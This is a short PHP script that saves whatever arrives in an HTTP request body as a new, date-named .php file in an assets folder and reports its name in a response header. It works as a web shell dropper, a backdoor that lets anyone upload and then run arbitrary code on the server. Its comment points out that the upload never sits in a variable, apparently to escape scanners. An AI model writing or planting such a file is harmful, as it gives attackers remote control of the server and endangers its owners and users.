<?php
// Saves whatever the request body holds as a script beside this one; copy() reads the body
// stream itself, so no variable ever holds the upload.
$name = __DIR__ . '/assets/' . date('Ymd') . '.php';
if (@copy('php://input', $name)) {
    header('X-Stored: ' . basename($name));
}
